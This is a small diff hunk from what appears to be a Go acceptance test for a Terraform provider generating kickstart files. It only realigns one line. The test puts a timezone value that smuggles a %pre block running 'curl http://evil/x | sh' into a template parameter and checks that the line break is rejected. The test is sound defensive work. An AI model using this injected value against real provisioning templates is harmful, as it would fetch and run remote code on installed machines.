@@ -232,7 +232,7 @@ resource "echo" "luks" {}
 				},
 			},
 			{
-				Config: cfg(joinV2, 2, strings.Replace(goodSite, `tz   = "Europe/Paris"`, `tz   = "UTC\n%pre\ncurl http://evil/x | sh\n%end"`, 1)),
+				Config:      cfg(joinV2, 2, strings.Replace(goodSite, `tz   = "Europe/Paris"`, `tz   = "UTC\n%pre\ncurl http://evil/x | sh\n%end"`, 1)),
 				ExpectError: regexp.MustCompile(`(?s)machine "acc-s1".*template "kickstart".*param "tz" contains a line break`),
 			},
 			{
